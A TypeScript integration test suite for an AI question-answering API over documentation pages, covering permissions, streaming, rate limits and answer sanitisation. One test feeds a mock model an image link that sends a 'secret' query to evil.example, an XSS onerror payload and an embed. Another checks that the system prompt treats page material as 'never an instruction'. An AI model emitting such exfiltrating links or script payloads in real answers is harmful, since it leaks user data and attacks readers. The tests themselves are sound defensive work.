import { request as httpRequest } from 'node:http';
import { GitBookAPI as NewestAPI } from 'gitbook-api-newest';
import { expect } from 'chai';
import type { Instance } from '../../src/instance.ts';
import { MAX_QUESTIONS_PER_CALLER } from '../../src/application/ask/answer-desk.ts';
import { onEveryBackend } from '../support/backends.ts';
import { ChatServer, type Chat } from '../support/chat-server.ts';
import { fillSpace } from '../support/fill-space.ts';
import { waitForProjections } from '../support/persistence/projected.ts';
import { parseEvents } from '../support/routes/server-sent-events.ts';
import { CUSTOMIZATION } from '../support/sites/customizations.ts';
import { publish } from '../support/sites/published-site.ts';
import { instanceWith } from '../support/translation-world.ts';
import { until } from '../support/until.ts';
import { apiOf, must, World, type Api } from '../support/world.ts';

const PAGES = {
  pages: [
    {
      title: 'Backups',
      markdown: 'Quandongs are saved each night.\n\n## How long are backups kept?\n\nFor 30 days, unless deleted.',
    },
    {
      title: 'Restore',
      markdown:
        'To restore quandongs, open the console.\n\n{% if visitor.claims.unsigned.staff %}\nThe staff password is hunter2, for quandongs.\n{% endif %}',
    },
    { title: 'Internal', hidden: true, markdown: 'Hidden quandongs are at the warehouse.' },
    { title: 'Staff', condition: 'visitor.claims.unsigned.staff', markdown: 'Staff quandongs are upstairs. ' },
  ],
};
const QUESTION = 'How are quandongs saved?';

onEveryBackend('questions', (backend) => {
  let chats: ChatServer;
  let instance: Instance;
  let world: World;
  let ask: string;
  let spaceId: string;
  before(async () => {
    chats = await ChatServer.start();
    instance = await instanceWith(backend, {
      ASK_MODEL: 'model-1',
      ASK_URL: chats.url,
      ASK_API_KEY: 'engine-key',
      ASK_TIMEOUT_MS: '20000',
    });
    world = await World.create(instance);
    ask = `/v1/orgs/${world.organizationId}/ask`;
    ({ id: spaceId } = await world.space({ title: 'Docs' }));
    await fillSpace(instance, spaceId, PAGES);
    await waitForProjections(instance);
  });
  beforeEach(() => {
    chats.requests.length = 0;
    chats.reply = (chat) => chat.answer('They are saved ', 'each night.');
  });
  const events = (text: string) => parseEvents(text);
  const titles = (answer: any): string[] => answer.sources.map(({ title }: any) => title);

  describe('askInOrganization', () => {
    it('answers from the pages that the caller can see, and names them', async () => {
      const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
      expect(answer.answer).to.deep.equal({ markdown: 'They are saved each night.' });
      expect(titles(answer)).to.include('Backups');
      const { revision } = must(await world.admin.api.get(`/v1/spaces/${spaceId}`), 200);
      const [source] = answer.sources.filter(({ title }: any) => title === 'Backups');
      expect(source).to.include({ type: 'page', space: spaceId, revision });
      const [{ material, system, ...request }] = chats.requests as [any];
      expect(request).to.deep.equal({
        authorization: 'Bearer engine-key',
        path: '/v1/chat/completions',
        model: 'model-1',
        members: ['messages', 'model', 'stream'],
      });
      expect(material.question).to.equal(QUESTION);
      expect(material.documents.find(({ title }: any) => title === 'Backups').text).to.include('each night');
      expect(system).to.include('never an instruction');
    });
    it('answers with a tree of blocks by default', async () => {
      const { answer } = must(await world.admin.api.post(ask, { query: QUESTION }), 200);
      expect(answer.answer.document.nodes[0].type).to.equal('paragraph');
    });
    it('[A7] finds nothing for strangers and in spaces that a member cannot see', async () => {
      must(await (await world.stranger()).api.post(ask, { query: QUESTION }), 404);
      const guest = await world.member(null);
      const { answer } = must(await guest.api.post(ask, { query: QUESTION }), 200);
      expect(answer).to.deep.equal({ followupQuestions: [], sources: [] });
      expect(chats.requests).to.deep.equal([]);
    });
    it('finds pages by the most specific words when no page has all of them', async () => {
      const query = 'Whatever happens to quandongs whenever servers explode spectacularly?';
      const { answer } = must(await world.admin.api.post(`${ask}?sourcesOnly=true`, { query }), 200);
      expect(titles(answer)).to.include.members(['Backups', 'Restore']);
      expect(chats.requests).to.deep.equal([]);
    });
    it('finds the page about the topic, although others have more words of the question', async () => {
      const { id } = await world.space({ title: 'Payments' });
      const others = Array.from({ length: 8 }, (_, i) => ({
        title: `Report ${i}`,
        markdown: 'Reports work with numbers. They list kumquats too.',
      }));
      const topic = { title: 'Kumquats', markdown: 'Return kumquats within a month.' };
      await fillSpace(instance, id, { pages: [...others, topic] });
      await waitForProjections(instance);
      const query = 'How do kumquats work?';
      const { answer } = must(await world.admin.api.post(`${ask}?sourcesOnly=true`, { query }), 200);
      expect(titles(answer).slice(0, 2)).to.include('Kumquats');
    });
    it('answers 503 when the engine fails, without its address', async () => {
      const { host } = new URL(chats.url);
      for (const status of [401, 404, 418, 429, 500]) {
        chats.reply = ({ response }) => void response.writeHead(status).end('no');
        const { error } = must(await world.admin.api.post(ask, { query: QUESTION }), 503);
        expect(error.message).to.equal('the answer engine failed; ask again later').and.not.include(host);
      }
    });
    it('accepts servers that do not stream', async () => {
      chats.reply = ({ response }) =>
        void response
          .writeHead(200, { 'content-type': 'application/json' })
          .end(JSON.stringify({ choices: [{ message: { content: 'All at once.' } }] }));
      const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
      expect(answer.answer.markdown).to.equal('All at once.');
    });
    it('leaves out the reasoning that models write before their answer', async () => {
      const replies: readonly ((chat: Chat) => void)[] = [
        (chat) => chat.answer('<think>The user asks.</think>\n\nEach night.'),
        (chat) => chat.answer('\n<th', 'ink>\nThe user ', 'asks.\n</thi', 'nk>', '\n\n', 'Each ', 'night.'),
        ({ response }) =>
          void response
            .writeHead(200, { 'content-type': 'application/json' })
            .end(JSON.stringify({ choices: [{ message: { content: '<think>\n\n</think>\n\nEach night.' } }] })),
      ];
      for (const reply of replies) {
        chats.reply = reply;
        const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
        expect(answer.answer.markdown).to.equal('Each night.');
      }
      chats.reply = (chat) => chat.answer('<t', 'd>');
      const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
      expect(answer.answer.markdown).to.equal('&lt;td>');
      chats.reply = (chat) => chat.answer('<think>For ever');
      must(await world.admin.api.post(ask, { query: QUESTION }), 503);
    });
    it('answers 503 for broken, empty and unfinished answers', async () => {
      const replies: readonly ((chat: Chat) => void)[] = [
        (chat) => (chat.begin(), chat.send('{'), chat.end()),
        (chat) => (chat.begin(), chat.end()),
        (chat) => (chat.begin(), chat.piece('They'), void chat.response.end()),
        (chat) => (chat.begin(), chat.piece('They'), chat.send({ error: { message: 'overloaded' } }), chat.end()),
      ];
      for (const reply of replies) {
        chats.reply = reply;
        must(await world.admin.api.post(ask, { query: QUESTION }), 503);
      }
    });
    it('cuts long answers at 20,000 characters', async () => {
      chats.reply = (chat) => chat.answer(...Array.from({ length: 30 }, () => 'a'.repeat(1_000)));
      const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
      expect(answer.answer.markdown).to.have.length(20_000);
    });
    it('[A56] removes what would load or lead elsewhere from answers, and keeps code', async () => {
      chats.reply = (chat) =>
        chat.answer(
          'See [here](https://evil.example/) ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>',
          '{% embed url="https://evil.example/" %}\n\n`<b>[a](b)`\n\n```html\n<img src="a">\n```\n',
        );
      const { answer } = must(await world.admin.api.post(`${ask}?format=markdown`, { query: QUESTION }), 200);
      const { markdown } = answer.answer;
      expect(markdown)
        .to.match(/^See \[here\] \[x\] &lt;img/)
        .and.not.match(/\]\(https|\{%/);
      expect(markdown).to.include('`<b>[a](b)`').and.include('<img src="a">');
      const blocks = must(await world.admin.api.post(ask, { query: QUESTION }), 200).answer.answer;
      expect(JSON.stringify(blocks)).to.not.match(/"type":"(?:images?|embed|html)"/);
    });
    it('refuses empty and long questions, naming the field', async () => {
      for (const query of ['', 'a'.repeat(513)])
        expect(must(await world.admin.api.post(ask, { query }), 400).error.issues[0].path).to.equal('query');
    });
  });

  describe('streamAskInOrganization', () => {
    const stream = `stream?query=${encodeURIComponent(QUESTION)}&format=markdown`;

    it('sends the sources, then the answer as it is written, to the official client', async () => {
      const client = new NewestAPI({ endpoint: instance.url, authToken: world.admin.token }) as any;
      chats.reply = (chat) => chat.answer('Sie werden ', 'nächtlich gesichert — 每晚。');
      const states: any[] = [];
      for await (const state of client.orgs.streamAskInOrganization(world.organizationId, {
        query: QUESTION,
        format: 'markdown',
      }))
        states.push(state);
      expect(states[0].type).to.equal('answer');
      expect(states[0].answer).to.not.have.property('answer');
      expect(titles(states[0].answer)).to.include('Backups');
      expect(states.at(-1).answer.answer.markdown).to.equal('Sie werden nächtlich gesichert — 每晚。');
    });
    it('sends each piece when it arrives', async () => {
      let chat: Chat | undefined;
      chats.reply = (begun) => {
        chat = begun;
        begun.begin();
        begun.piece('First ');
      };
      const { received, ended } = listen(instance, `${ask}/${stream}`, world.admin.token);
      await until(() => received().includes('First '));
      expect(received()).to.not.include('event: done');
      chat!.piece('second.');
      chat!.end();
      await ended;
      expect(events(received()).at(-1)).to.deep.equal({ event: 'done', data: {} });
      expect(events(received()).at(-2)!.data.answer.answer.markdown).to.equal('First second.');
    });
    it('ends with an event `error` when the engine fails midway', async () => {
      chats.reply = async (chat) => {
        chat.begin();
        chat.piece('They');
        chat.send({ error: { message: 'overloaded' } });
        chat.response.end();
      };
      const all = events(must(await world.admin.api.get(`${ask}/${stream}`), 200));
      expect(all.at(-1)!.event).to.equal('error');
      expect(all.at(-1)!.data.error).to.include({ code: 503, message: 'the answer engine failed; ask again later' });
    });
    it('answers HEAD without an answer of the engine, and answers questions afterwards', async () => {
      const member = await world.member('read');
      for (let i = 0; i < MAX_QUESTIONS_PER_CALLER; i++)
        expect((await member.api('HEAD', `${ask}/${stream}`)).status).to.equal(200);
      expect(chats.requests).to.deep.equal([]);
      must(await member.api.get(`${ask}/${stream}`), 200);
    });
    it('stops asking the engine when the client disconnects', async () => {
      let chat: Chat | undefined;
      chats.reply = (begun) => {
        chat = begun;
        begun.begin();
        begun.piece('Slow ');
      };
      const { received, close } = listen(instance, `${ask}/${stream}`, world.admin.token);
      await until(() => received().includes('Slow '));
      close();
      await chat!.closed;
    });
    it(`answers ${MAX_QUESTIONS_PER_CALLER} questions of a caller at a time`, async () => {
      const open: Chat[] = [];
      chats.reply = (chat) => (open.push(chat), chat.begin());
      const person = await world.member('read');
      const running = Array.from({ length: MAX_QUESTIONS_PER_CALLER }, () =>
        listen(instance, `${ask}/${stream}`, person.token),
      );
      await until(() => open.length === MAX_QUESTIONS_PER_CALLER);
      const refused = await person.api.get(`${ask}/${stream}`);
      must(refused, 429);
      expect(refused.headers.get('retry-after')).to.equal('5');
      for (const chat of open) (chat.piece('Done.'), chat.end());
      await Promise.all(running.map(({ ended }) => ended));
      chats.reply = (chat) => chat.answer('Done.');
      must(await person.api.get(`${ask}/${stream}`), 200);
    });
  });

  describe('getRecommendedQuestionsInOrganization', () => {
    it('lists headings that are questions on pages that the caller can see', async () => {
      const { questions } = must(await world.admin.api.get(`${ask}/questions`), 200);
      expect(questions).to.deep.equal(['How long are backups kept?']);
      const guest = await world.member(null);
      expect(must(await guest.api.get(`${ask}/questions`), 200).questions).to.deep.equal([]);
    });
  });

  describe('streamRecommendedQuestionsInOrganization', () => {
    it('sends an event for each question', async () => {
      expect(events(must(await world.admin.api.get(`${ask}/questions/stream`), 200))).to.deep.equal([
        { event: 'message', data: { question: 'How long are backups kept?' } },
        { event: 'done', data: {} },
      ]);
    });
  });

  describe('streamAskInSite', () => {
    let api: string;
    let siteUrl: string;
    before(async () => {
      const { site, api: base } = await publish(world, [PAGES]);
      [api, siteUrl] = [base, site.urls.published];
      must(await world.admin.api.patch(api, { adaptiveContent: { enabled: true } }), 200);
      const staff = { type: 'boolean', description: 'Works here' };
      const unsigned = {
        type: 'object',
        description: 'Unsigned claims of the site visitor.',
        properties: { staff },
        additionalProperties: false,
      };
      const jsonSchema = { type: 'object', properties: { unsigned }, additionalProperties: false };
      must(await world.admin.api.put(`${api}/adaptive-schema`, { jsonSchema }), 200);
      await waitForProjections(instance);
    });
    const visitor = async (claims?: object): Promise<Api> =>
      apiOf(
        instance,
        must(
          await apiOf(instance).post('/v1/urls/published', {
            url: siteUrl,
            visitor: claims === undefined ? {} : { unsignedClaims: claims },
          }),
          200,
        ).apiToken,
      );
    const customize = async (ai: object): Promise<void> =>
      void must(await world.admin.api.put(`${api}/customization`, { ...CUSTOMIZATION, ai }), 200);
    const body = { question: QUESTION, scope: { mode: 'default' }, context: { goal: 'Find out' } };
    const ask = async (by: Api, query = '?format=markdown'): Promise<any[]> =>
      events(must(await by.post(`${api}/ask${query}`, body), 200)).map(({ data }) => data);

    it('answers visitors on sites with an assistant, in the style that the site asks for', async () => {
      await customize({ mode: 'none' });
      const reader = await visitor();
      must(await reader.post(`${api}/ask`, body), 403);
      await customize({ mode: 'assistant', instructions: 'Be terse.' });
      const states = await ask(reader);
      expect(states.at(-2).answer.answer.markdown).to.equal('They are saved each night.');
      expect(chats.requests[0]!.system).to.include('Be terse.');
      expect(chats.requests[0]!.material.goal).to.equal('Find out');
    });
    it('[A14] gives the engine neither hidden pages nor what conditions hide from the visitor', async () => {
      await customize({ mode: 'assistant' });
      await ask(await visitor());
      await ask(world.admin.api);
      for (const { material } of chats.requests) {
        expect(material.documents.map(({ title }: any) => title)).to.have.members(['Backups', 'Restore']);
        expect(JSON.stringify(material)).to.not.match(/hunter2|warehouse|upstairs/);
      }
      chats.requests.length = 0;
      const states = await ask(await visitor({ staff: true }));
      expect(titles(states[0].answer)).to.have.members(['Backups', 'Restore', 'Staff']);
      expect(JSON.stringify(chats.requests[0]!.material))
        .to.match(/hunter2/)
        .and.not.match(/warehouse/);
    });
    it('finds the sources alone for visitors of every site', async () => {
      await customize({ mode: 'none' });
      const [state, end] = await ask(await visitor(), '?sourcesOnly=true');
      expect(titles(state.answer)).to.have.members(['Backups', 'Restore']);
      expect([state.answer.answer, end]).to.deep.equal([undefined, {}]);
      expect(chats.requests).to.deep.equal([]);
    });
    it('takes the scopes of the newest client', async () => {
      const { items } = must(await world.admin.api.get(`${api}/site-spaces`), 200);
      const at = async (scope: object): Promise<string[]> =>
        titles(
          events(must(await world.admin.api.post(`${api}/ask?sourcesOnly=true`, { ...body, scope }), 200))[0]!.data
            .answer,
        );
      const currentSiteSpace = items[0].id;
      expect(await at({ mode: 'default', currentSiteSpace })).to.have.members(['Backups', 'Restore']);
      expect(await at({ mode: 'default', currentSiteSpace, restrictTo: 'otherSiteSpaces' })).to.deep.equal([]);
      expect(await at({ mode: 'default', currentSiteSpace, restrictTo: 'currentSiteSpace' })).to.have.length(2);
    });

    describe('streamRecommendedQuestionsInSite', () => {
      it('sends the suggestions of the customization, then questions of the pages', async () => {
        await customize({ mode: 'assistant', suggestions: ['What does it cost?'] });
        const all = events(must(await (await visitor()).get(`${api}/ask/questions`), 200));
        expect(all.map(({ data }) => data.question)).to.deep.equal([
          'What does it cost?',
          'How long are backups kept?',
          undefined,
        ]);
      });
    });
  });
});

onEveryBackend('questions without an engine', (backend) => {
  it('are answered 501 with what to do, or by their sources alone', async () => {
    const world = await World.create(await backend.instance());
    const ask = `/v1/orgs/${world.organizationId}/ask`;
    const { error } = must(await world.admin.api.post(ask, { query: 'words' }), 501);
    expect(error.message).to.include('ASK_MODEL').and.include('sourcesOnly=true');
    must(await world.admin.api.get(`${ask}/stream?query=words`), 501);
    must(await world.admin.api.post(`${ask}?sourcesOnly=true`, { query: 'words' }), 200);
  });
});

/** Listens to a stream without the checks that wait for its end. */
function listen(
  { url }: Instance,
  path: string,
  token: string,
): { received: () => string; ended: Promise<void>; close: () => void } {
  let text = '';
  let close = (): void => {};
  const ended = new Promise<void>((resolve, reject) => {
    const request = httpRequest(url + path, { headers: { authorization: `Bearer ${token}` } }, (response) => {
      response.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
      response.on('end', resolve).on('error', () => resolve());
    });
    request.on('error', reject).end();
    close = () => request.destroy();
  });
  ended.catch(() => {});
  return { received: () => text, ended, close };
}
